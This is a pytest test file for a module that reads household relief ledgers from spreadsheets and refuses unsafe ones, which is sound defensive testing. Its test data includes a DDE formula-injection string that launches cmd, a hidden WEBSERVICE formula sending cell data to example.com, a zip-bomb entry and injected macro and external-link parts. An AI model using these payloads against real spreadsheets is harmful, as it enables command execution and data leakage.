"""Spreadsheets as they come: what is found in them, and what is refused."""

import io
import zipfile

import openpyxl
import pytest
import xlsxwriter

from nuandong.kernel.errors import Invalid
from nuandong.kernel.sheets import inert
from nuandong.relief.forms.library import form_of
from nuandong.relief.reading.copying import Note, annotated
from nuandong.relief.reading.door import read_book
from nuandong.relief.reading.layout import layout_of, proposed
from nuandong.relief.reading.opening import FAULT, NO_VALUE, open_book
from nuandong.relief.reading.rows import rows_of
from nuandong.relief.reading.units import check_units
from tests.relief.books import TITLES, book, household, number
from tests.relief.old_books import old_book

FORM = "official-ledger"


def read(data: bytes):
    found = open_book(data, 1000)
    assert found.refusal == ""
    layout = layout_of(found, FORM)
    return layout, rows_of(found, layout, proposed(layout.main.headings, FORM), FORM)


def workbook(fill) -> bytes:
    target = io.BytesIO()
    made = xlsxwriter.Workbook(target)
    fill(made)
    made.close()
    return target.getvalue()


def test_titles_totals_notes_and_blank_rows_are_none_of_the_table():
    layout, rows = read(book([household(n) for n in range(5)], dressed=True))
    assert (layout.main.first, rows.numbers) == (3, [4, 5, 6, 7, 8])
    assert dict(rows.skipped) == {"total": 1, "note": 1}
    assert rows.totals[0][2]["household_size"] == str(sum(int(str(household(n)[4])) for n in range(5)))


def test_headings_of_two_rows_numbers_of_columns_and_page_breaks():
    def fill(made):
        page = made.add_worksheet("表")
        page.merge_range(0, 0, 0, 5, "台账")
        for place, words in enumerate(("序号", "户主姓名")):
            page.merge_range(1, place, 2, place, words)
        page.merge_range(1, 2, 1, 3, "户主情况")
        page.write_row(2, 2, ["身份证\n号码", "联系电话"])
        page.merge_range(1, 4, 1, 5, "人口（人）")
        page.write_row(2, 4, ["家庭人口", "需救助人口"])
        page.write_row(3, 0, [1, 2, 3, 4, 5, 6])
        page.write_row(4, 0, [1, "张三", number(1), "13900000001", 3, 2])
        page.write_row(5, 0, ["序号", "户主姓名", "身份证号码", "联系电话", "家庭人口", "需救助人口"])
        page.write_row(6, 0, [2, "李四", number(2), "13900000002", 2, 1])
        page.write_row(7, 0, [3, "", "", "", "", ""])
        page.write_row(8, 0, ["", "本页小计", "", "", 5, 3])

    layout, rows = read(workbook(fill))
    assert layout.main.headings[2:] == (
        "户主情况/身份证 号码",
        "户主情况/联系电话",
        "人口（人）/家庭人口",
        "人口（人）/需救助人口",
    )
    assert rows.numbers == [5, 7]
    assert rows.cells["head_name"] == ["张三", "李四"]
    assert rows.cells["persons_in_need"] == ["2", "1"]
    assert dict(rows.skipped) == {"numbering": 1, "heading": 1, "blank": 1, "subtotal": 1}


def test_what_a_spreadsheet_did_to_its_cells():
    def fill(made):
        page = made.add_worksheet("甲村")
        page.write_row(0, 0, TITLES)
        page.write_row(1, 0, ["张三", int(number(1)[:17] + "0")])
        page.write_number(1, 4, 3)
        page.write_formula(1, 6, "=E2-1", None, 2)
        page.write_formula(1, 7, "=1/0", None, "#DIV/0!")
        page.write_number(1, 8, 0.1 + 0.2)
        page.set_row(1, None, None, {"hidden": True})
        made.add_worksheet("乙村").write_row(0, 0, ["说明"])
        made.add_worksheet("隐藏").hide()

    data = workbook(fill)
    layout, rows = read(data)
    said = {field: cells[0] for field, cells in rows.cells.items()}
    assert (said["head_id_no"][-4:], said["household_size"], said["persons_in_need"]) == ("E+17", "3", "2")
    assert (said["cash_paid"], said["goods_value"]) == (FAULT, "0.3")
    assert (rows.hidden, layout.ignored) == (1, ()) or (rows.hidden, layout.ignored) == (1, ("乙村",))
    for left in (b"", b"<v></v>", b"<v/>"):
        assert read(_without_value(data, left))[1].cells["persons_in_need"] == [NO_VALUE]


def _without_value(data: bytes, left: bytes) -> bytes:
    """As programs write a formula that nobody has worked out."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").replace(b"<f>E2-1</f><v>2</v>", b"<f>E2-1</f>" + left)
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w") as copy:
            for entry in archive.infolist():
                copy.writestr(entry, sheet if entry.filename.endswith("sheet1.xml") else archive.read(entry))
    return target.getvalue()


def test_villages_with_a_sheet_each_need_not_have_the_same_order():
    def fill(made):
        first, second = made.add_worksheet("甲村"), made.add_worksheet("乙村")
        first.write_row(0, 0, TITLES)
        first.write_row(1, 0, [str(cell) for cell in household(1)])
        second.write_row(0, 0, TITLES[::-1])
        second.write_row(1, 0, [str(cell) for cell in household(2)[::-1]])

    layout, rows = read(workbook(fill))
    assert (len(layout.tables), rows.sheets, rows.numbers) == (2, [0, 1], [2, 2])
    assert rows.cells["head_id_no"] == [number(1), number(2)]


def test_a_village_written_once_over_several_rows_belongs_to_each():
    def fill(made):
        page = made.add_worksheet("表")
        page.write_row(0, 0, ["村", *TITLES])
        page.merge_range(1, 0, 3, 0, "甲村")
        for line in range(1, 4):
            page.write_row(line, 1, [str(cell) for cell in household(line)])

    assert read(workbook(fill))[1].cells["village"] == ["甲村"] * 3


def _with(data: bytes, name: str, content: bytes) -> bytes:
    target = io.BytesIO(data)
    with zipfile.ZipFile(target, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return target.getvalue()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"MZ program", "kind"),
        ("一段话，没有列".encode(), "kind"),
        (b"a,b\x00\x01,c", "kind"),
        (b'a,"b"c,d', "kind"),
        (b"a,b\n" * 1020, "too_long"),
        (f"a,{'字' * 1001}".encode("gb18030"), "long_cell"),
        (b"PK\x03\x04 broken", "unreadable"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "unreadable"),
        (_with(book([household(1)]), "xl/vbaProject.bin", b"x"), "macros"),
        (_with(book([household(1)]), "xl/externalLinks/externalLink1.xml", b"<x/>"), "links"),
        (_with(book([household(1)]), "xl/worksheets/sheet9.xml", b" " * 40_000_000), "bomb"),
        (workbook(lambda made: made.add_worksheet("长").write(0, 0, "字" * 1001)), "long_cell"),
        (workbook(lambda made: made.add_worksheet("远").write(1_000_000, 0, "x")), "too_long"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_what_is_refused(data, reason):
    assert open_book(data, 1000).refusal == reason


@pytest.mark.parametrize("reason", ["bomb", "empty"])
def test_the_door_says_why(reason):
    bomb = _with(book([household(1)]), "xl/worksheets/sheet9.xml", b" " * 40_000_000)
    data = {"bomb": bomb, "empty": workbook(lambda made: made.add_worksheet("空"))}[reason]
    with pytest.raises(Invalid) as refusal:
        read_book(data)
    assert refusal.value.code == f"relief.ledger_{reason}"


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1"])
def test_nothing_that_starts_like_a_formula_leaves_as_one(text):
    assert inert(text) == f"'{text}"
    data = workbook(lambda made: made.add_worksheet("甲村").write_string(0, 0, text))
    copy = annotated(data, [Note("甲村", 1, 0, "问题", error=True)], "核对", 100)
    assert open_book(copy.data, 100).sheets[0].rows[0][0] == f"'{text}"


@pytest.mark.parametrize("text", ["-12.50", "+8613900000000", "张三", "12"])
def test_numbers_and_words_stay(text):
    assert inert(text) == text


def test_a_sheet_without_headings_gives_no_personal_data_for_headings():
    rows = [["王伟", number(0), "甲村", 3], ["李芳", "5.22601198001010E+17", "甲村", 2]]

    def fill(made):
        page = made.add_worksheet("表")
        for line, row in enumerate(rows):
            page.write_row(line, 0, row)

    with pytest.raises(Invalid, match="表头"):
        layout_of(open_book(workbook(fill), 1000), FORM)


def written(rows) -> bytes:
    def fill(made):
        page = made.add_worksheet("表")
        for line, row in enumerate(rows):
            page.write_row(line, 0, row)

    return workbook(fill)


@pytest.mark.parametrize(
    "first", [["王伟", "甲村", "低保户"], ["王伟", "甲村", "3"], ["王伟", "甲村", "52************34"]]
)
def test_a_headless_sheet_whose_first_row_has_no_number_gives_no_name_for_a_heading(first):
    rows = [first, ["李芳", "甲村", "低保户", number(1)], ["李强", number(2), "甲村"]]
    with pytest.raises(Invalid, match="表头"):
        layout_of(open_book(written(rows), 1000), FORM)


def test_headings_that_name_no_field_are_words_above_numbers_of_people():
    odd = ("当家人", "证件号", "在哪里")
    assert layout_of(open_book(written([odd, ["王伟", number(0), "甲村"]]), 1000), FORM).main.headings == odd


def test_the_old_kind_of_workbook_and_a_table_that_begins_in_column_b():
    rows = [["", *TITLES], *(["", *household(n)] for n in range(3))]
    data = old_book({"甲村": [[], ["", "台账"], *rows], "旧表": [["户主姓名"]]}, hidden=frozenset({"旧表"}))
    found = open_book(data, 1000)
    assert (found.refusal, found.hidden_sheets, found.hides_known) == ("", 1, False)
    layout, read_rows = read(data)
    assert (layout.main.headings, layout.main.first) == (("", *TITLES), 3)
    assert (read_rows.numbers, read_rows.cells["head_id_no"]) == ([4, 5, 6], [number(n) for n in range(3)])
    assert read_rows.cells["household_size"] == [str(household(n)[4]) for n in range(3)]

    def fill(made):
        page = made.add_worksheet("甲村")
        for line, row in enumerate(rows[:2]):
            page.write_row(line, 0, row)
        page.write_formula(1, 7, "=1/0", None, "#DIV/0!")

    assert read(workbook(fill))[1].cells["persons_in_need"] == [FAULT]
    copy = annotated(data, [Note("甲村", 4, 2, "号码不对", error=True)], "核对", 1000)
    page = openpyxl.load_workbook(io.BytesIO(copy.data)).active
    assert (page["C4"].value, page["C4"].comment.text) == (number(0), "号码不对")


def test_no_formula_is_left_in_a_copy_hidden_sheets_and_far_columns_included():
    def fill(made):
        first, second, hidden = (made.add_worksheet(name) for name in ("说明", "甲村", "隐藏"))
        first.write(0, 0, "说明")
        second.write_formula(4, 0, "=1+1", None, 2)
        second.write_formula(0, 120, "=NOW()")
        hidden.write_formula(30, 130, '=WEBSERVICE("http://example.com/"&A1)')
        hidden.hide()
        for one in (first, second):
            one.select()

    copy = annotated(workbook(fill), [Note("甲村", 5, 0, "问题", error=True)], "核对", 1000)
    made = openpyxl.load_workbook(io.BytesIO(copy.data))
    assert not [cell for page in made.worksheets for row in page.rows for cell in row if cell.data_type == "f"]
    assert (made.active.title, made["甲村"]["A5"].value) == ("甲村", "2")
    assert [page.title for page in made.worksheets if page.sheet_view.tabSelected] == ["甲村"]


def test_more_cells_than_whoever_asked_can_hold_are_refused(monkeypatch):
    monkeypatch.setattr("nuandong.relief.reading.opening.MAX_CELLS", 25)
    assert open_book(book([household(n) for n in range(3)]), 1000).refusal == "too_full"


def test_a_heading_that_may_name_two_fields_names_the_one_that_has_no_column():
    alone = proposed(("户主姓名", "困难类型", "需求时段"), FORM)
    assert alone == {"0": "head_name", "1": "household_type", "2": "need_period"}
    for headings in (("困难类型", "家庭类型", "姓名"), ("家庭类型", "困难类型", "姓名")):
        named = {headings[int(place)]: field for place, field in proposed(headings, FORM).items()}
        assert named == {"困难类型": "difficulty", "家庭类型": "household_type", "姓名": "head_name"}


def _stated(*, headings=(), above="", below=(), amount: object = 30):
    """The columns of money and grain of a sheet that states its units here or there, checked."""
    titles = {"已发放救助款": "已发放救助款", "需救助口粮": "需救助口粮"} | dict(headings)
    rows = [[above], ["户主姓名", "户主身份证号", *titles.values()], ["", "", *below], ["甲", number(1), amount, 30]]

    def fill(made):
        page = made.add_worksheet("甲村")
        for at, row in enumerate(rows):
            page.write_row(at, 0, row)

    found = open_book(workbook(fill), 1000)
    layout = layout_of(found, FORM)
    check_units(found, layout, proposed(layout.main.headings, FORM), form_of(FORM))


@pytest.mark.parametrize(
    "stated",
    [
        {"headings": {"已发放救助款": "已发放救助款（万元）"}},
        {"headings": {"已发放救助款": "已发放救助款（单位：千元）"}},
        {"headings": {"需救助口粮": "需救助口粮(斤/人)"}},
        {"above": "金额单位：万元"},
        {"above": "填报单位：甲村　　单位：户、万元"},
        {"below": ("（万元）", "公斤")},
        {"below": ("元", "斤")},
    ],
)
def test_three_under_ten_thousand_yuan_is_not_three_yuan(stated):
    with pytest.raises(Invalid) as refusal:
        _stated(**stated)
    assert refusal.value.code == "relief.ledger_unit"


@pytest.mark.parametrize(
    "stated",
    [
        {},
        {
            "headings": {"已发放救助款": "已发放救助款（元）", "需救助口粮": "需救助口粮（公斤/人）"},
            "above": "单位：万元",
        },
        {"above": "单位：户、人、元、kg"},
        {"above": "填报单位：万元村"},
        {"headings": {"已发放救助款": "已发放救助款（万元）"}, "amount": ""},  # nothing in it yet
        {"headings": {"已发放救助款": "已发放救助款（万元）"}, "amount": 0},
    ],
)
def test_the_units_of_the_form_and_columns_without_an_amount_are_taken(stated):
    _stated(**stated)
